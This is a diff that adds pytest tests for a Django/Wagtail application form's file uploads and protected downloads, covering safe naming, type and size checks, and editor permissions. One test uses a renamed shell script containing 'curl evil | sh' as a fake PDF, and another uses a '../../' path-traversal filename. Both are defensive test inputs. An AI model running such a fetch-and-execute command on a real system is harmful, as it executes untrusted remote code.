@@ -1,0 +1,124 @@
+from pathlib import Path
+
+import pytest
+from bs4 import BeautifulSoup
+from django.conf import settings
+from django.contrib.auth.models import Group, Permission
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+from wagtail.models import GroupPagePermission
+
+from applications.models import Submission, SubmissionFile
+from tests.applications.conftest import PDF, PNG, docx_bytes
+from tests.factories import ApplicationFormPageFactory
+
+
+def upload(name, content, content_type="application/pdf"):
+    return SimpleUploadedFile(name, content, content_type=content_type)
+
+
+def error_of(response, field="document"):
+    soup = BeautifulSoup(response.content, "html.parser")
+    error = soup.find(id=f"id_{field}_error")
+    return error.get_text(strip=True) if error else None
+
+
+@pytest.mark.django_db
+class TestUploads:
+    def test_a_document_is_stored_privately_under_a_safe_name(self, submit, private_media):
+        response = submit(document=upload("../../ملف التأسيس.pdf", PDF))
+        assert response.status_code == 200
+        stored = SubmissionFile.objects.get()
+        assert stored.name == "ملف-التأسيس.pdf"
+        assert stored.kind == "pdf"
+        assert stored.size == len(PDF)
+        path = Path(stored.file.path)
+        assert path.read_bytes() == PDF
+        assert private_media in path.parents
+        assert Path(settings.MEDIA_ROOT) not in path.parents
+        assert Submission.objects.get().form_data["document"] == "ملف-التأسيس.pdf"
+
+    @pytest.mark.parametrize(("name", "content"), [("photo.png", PNG), ("cv.docx", docx_bytes())])
+    def test_images_and_word_documents_are_accepted(self, submit, name, content):
+        submit(document=upload(name, content, "application/octet-stream"))
+        assert SubmissionFile.objects.get().name == name
+
+    def test_a_script_renamed_pdf_is_refused(self, submit):
+        response = submit(document=upload("cv.pdf", b"#!/bin/sh\ncurl evil | sh\n"))
+        assert Submission.objects.count() == 0
+        assert "ليس مستند PDF" in error_of(response)
+
+    def test_an_empty_file_is_refused(self, submit):
+        response = submit(document=upload("empty.pdf", b""))
+        assert Submission.objects.count() == 0
+        assert error_of(response)
+
+    def test_an_oversized_file_is_refused_with_the_limit(self, submit):
+        response = submit(document=upload("big.pdf", PDF + b"0" * (1024 * 1024)))
+        assert Submission.objects.count() == 0
+        assert "أكبر من" in error_of(response)
+
+    def test_the_size_limit_is_set_per_field(self, client, forms_index, submit):
+        page = ApplicationFormPageFactory(
+            parent=forms_index,
+            fields=[
+                {"clean_name": "file", "label": "ملف", "field_type": "file", "max_upload_mb": 3}
+            ],
+        )
+        response = submit(page=page, file=upload("big.pdf", PDF + b"0" * (2 * 1024 * 1024)))
+        assert response.status_code == 200
+        assert SubmissionFile.objects.count() == 1
+
+    def test_a_required_file_must_be_chosen(self, forms_index, submit):
+        page = ApplicationFormPageFactory(
+            parent=forms_index,
+            fields=[{"clean_name": "file", "label": "ملف", "field_type": "file"}],
+        )
+        response = submit(page=page)
+        assert error_of(response, "file") == "هذا الحقل مطلوب."
+
+    def test_files_are_deleted_with_their_submission(self, submit):
+        submit(document=upload("a.pdf", PDF))
+        path = Path(SubmissionFile.objects.get().file.path)
+        Submission.objects.get().delete()
+        assert not path.exists()
+
+
+@pytest.mark.django_db
+class TestDownload:
+    @pytest.fixture
+    def stored(self, submit):
+        submit(document=upload("a.pdf", PDF))
+        return SubmissionFile.objects.get()
+
+    def test_not_served_from_the_media_url(self, client, stored):
+        assert client.get(f"{settings.MEDIA_URL}{stored.file.name}").status_code == 404
+
+    def test_anonymous_visitors_are_sent_to_log_in(self, client, stored):
+        response = client.get(reverse("applications_download", args=[stored.pk]))
+        assert response.status_code == 302
+        assert "/admin/login/" in response["Location"]
+
+    def test_an_editor_allowed_to_see_the_form_downloads_it(self, client, stored, admin_user):
+        client.force_login(admin_user)
+        response = client.get(reverse("applications_download", args=[stored.pk]))
+        assert response.status_code == 200
+        assert b"".join(response.streaming_content) == PDF
+        assert response["Content-Type"] == "application/pdf"
+        assert "attachment" in response["Content-Disposition"]
+        assert response["X-Content-Type-Options"] == "nosniff"
+
+    def test_an_editor_of_other_pages_is_refused(
+        self, client, stored, forms_index, django_user_model
+    ):
+        other = ApplicationFormPageFactory(parent=forms_index.get_parent())
+        group = Group.objects.create(name="محررو استمارة أخرى")
+        group.permissions.add(Permission.objects.get(codename="access_admin"))
+        GroupPagePermission.objects.create(group=group, page=other, permission_type="change")
+        user = django_user_model.objects.create_user("editor", password="x")
+        user.groups.add(group)
+        client.force_login(user)
+        response = client.get(reverse("applications_download", args=[stored.pk]))
+        # Wagtail's admin turns the refusal into a redirect to the dashboard with a message.
+        assert response.status_code == 302
+        assert response["Location"] == "/admin/"
